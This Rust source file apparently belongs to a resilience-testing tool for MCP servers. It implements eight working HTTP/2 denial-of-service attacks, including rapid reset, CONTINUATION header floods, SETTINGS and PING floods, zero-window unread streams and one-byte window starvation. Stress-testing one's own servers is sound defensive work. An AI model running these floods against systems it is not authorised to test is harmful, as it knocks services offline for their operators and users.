//! HTTP/2: streams that nobody reads, and frames that cost the server more than the client.

use std::time::Duration;

use anyhow::Result;

use super::{Attack, crowd};
use crate::frames;
use crate::messages::{MODERN, call, modern};
use crate::peer::Peer;
use crate::target::Target;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "http2-unread",
        "4,000 HTTP/2 streams without a window, whose responses the client does not read",
        |target| Box::pin(unread(target)),
    )
    .lasting(700, 8_000),
    Attack::new(
        "http2-half-bodies",
        "4,000 HTTP/2 streams with half a body",
        |target| Box::pin(half_bodies(target)),
    )
    .lasting(700, 8_000),
    Attack::new(
        "http2-rapid-reset",
        "HTTP/2 requests that are reset at once, 10,000 a second",
        |target| Box::pin(rapid_reset(target)),
    )
    .lasting(500, 5_000),
    Attack::new(
        "http2-continuation",
        "HTTP/2 heads that go on without an end",
        |target| Box::pin(continuation(target)),
    ),
    Attack::new(
        "http2-settings",
        "20,000 HTTP/2 settings a second, whose acknowledgements the client does not read",
        |target| Box::pin(flood(target, frames::settings())),
    ),
    Attack::new(
        "http2-pings",
        "20,000 HTTP/2 pings a second, whose answers the client does not read",
        |target| Box::pin(flood(target, frames::ping())),
    )
    .long_only(),
    Attack::new(
        "http2-empty-data",
        "HTTP/2 bodies of empty frames, 20,000 a second",
        |target| Box::pin(empty_data(target)),
    ),
    Attack::new(
        "http2-tiny-windows",
        "HTTP/2 responses that are read one byte at a time",
        |target| Box::pin(tiny_windows(target)),
    )
    .long_only()
    .lasting(500, 5_000),
];

/// Streams that servers allow on one connection, as far as is known.
const STREAMS: u32 = 200;
/// The window that the protocol begins with.
const WINDOW: u32 = 65_535;
/// Time between two bursts of frames.
const BURST: Duration = Duration::from_millis(10);

/// The head of a POST.
fn post(target: &Target, stream: u32, method: &str, name: Option<&str>) -> Vec<u8> {
    let mut fields = vec![
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", target.host()),
        (":path", target.path()),
        ("content-type", "application/json"),
        ("accept", "application/json, text/event-stream"),
        ("mcp-protocol-version", MODERN),
        ("mcp-method", method),
    ];
    fields.extend(name.map(|name| ("mcp-name", name)));
    frames::headers(stream, &fields, false)
}

/// A call of the tool that good clients call.
fn tool_call(target: &Target, stream: u32) -> Vec<u8> {
    let tool = target.tool();
    let mut bytes = post(target, stream, "tools/call", Some(&tool.name));
    let members = call(&tool.name, &tool.arguments);
    let body = modern("1", "tools/call", &members);
    bytes.extend(frames::data(stream, body.as_bytes(), true));
    bytes
}

/// A call whose response is a stream of events.
fn events(target: &Target, stream: u32) -> Vec<u8> {
    let tool = "test_tool_with_progress";
    let body = modern("1", "tools/call", &call(tool, "{}"));
    let marked = r#""_meta":{"progressToken":1,"#;
    let body = body.replacen("\"_meta\":{", marked, 1);
    let mut bytes = post(target, stream, "tools/call", Some(tool));
    bytes.extend(frames::data(stream, body.as_bytes(), true));
    bytes
}

/// Ids of streams: clients use odd ones.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

async fn unread(target: Target) -> Result<()> {
    crowd(target, 20, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&frames::opening(0)).await?;
        for stream in streams(STREAMS) {
            let bytes = if stream % 4 == 1 {
                tool_call(&target, stream)
            } else {
                events(&target, stream)
            };
            peer.send(&bytes).await?;
        }
        peer.drain().await
    })
    .await
}

async fn half_bodies(target: Target) -> Result<()> {
    crowd(target, 20, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&frames::opening(WINDOW)).await?;
        for stream in streams(STREAMS) {
            let mut bytes = post(&target, stream, "tools/list", None);
            bytes.extend(frames::data(stream, b"{", false));
            peer.send(&bytes).await?;
        }
        peer.drain().await
    })
    .await
}

async fn rapid_reset(target: Target) -> Result<()> {
    crowd(target, 4, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&frames::opening(WINDOW)).await?;
        let mut ticks = super::ticks(BURST);
        let mut ids = streams(u32::MAX / 4);
        loop {
            ticks.tick().await;
            let mut bytes = Vec::new();
            for stream in ids.by_ref().take(25) {
                bytes.extend(tool_call(&target, stream));
                bytes.extend(frames::reset(stream));
            }
            peer.send(&bytes).await?;
        }
    })
    .await
}

async fn continuation(target: Target) -> Result<()> {
    crowd(target, 8, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&frames::opening(WINDOW)).await?;
        let fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":authority", target.host()),
            (":path", target.path()),
        ];
        peer.send(&frames::open_headers(1, &fields)).await?;
        let value = "v".repeat(4_000);
        let mut ticks = super::ticks(BURST);
        loop {
            ticks.tick().await;
            for _ in 0..10 {
                let more = [("x-large", value.as_str()); 4];
                peer.send(&frames::continuation(1, &more)).await?;
            }
        }
    })
    .await
}

/// Repeats a frame that the server answers, and reads no answer.
async fn flood(target: Target, frame: Vec<u8>) -> Result<()> {
    let burst = frame.repeat(50);
    crowd(target, 4, move |target, number| {
        let burst = burst.clone();
        async move {
            let mut peer = Peer::open_narrow(&target, number).await?;
            peer.send(&frames::opening(WINDOW)).await?;
            let mut ticks = super::ticks(BURST);
            loop {
                ticks.tick().await;
                peer.send(&burst).await?;
            }
        }
    })
    .await
}

async fn empty_data(target: Target) -> Result<()> {
    crowd(target, 4, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&frames::opening(WINDOW)).await?;
        peer.send(&post(&target, 1, "tools/list", None)).await?;
        let burst = frames::data(1, b"", false).repeat(50);
        let mut ticks = super::ticks(BURST);
        loop {
            ticks.tick().await;
            peer.send(&burst).await?;
        }
    })
    .await
}

async fn tiny_windows(target: Target) -> Result<()> {
    crowd(target, 10, |target, number| async move {
        let mut peer = Peer::open(&target, number).await?;
        peer.send(&frames::opening(0)).await?;
        for stream in streams(100) {
            let mut bytes = post(&target, stream, "tools/list", None);
            let body = modern("1", "tools/list", "");
            bytes.extend(frames::data(stream, body.as_bytes(), true));
            peer.send(&bytes).await?;
        }
        let mut ticks = super::ticks(2 * BURST);
        loop {
            ticks.tick().await;
            let bytes: Vec<u8> = streams(100)
                .flat_map(|stream| frames::window_update(stream, 1))
                .collect();
            peer.send(&bytes).await?;
        }
    })
    .await
}
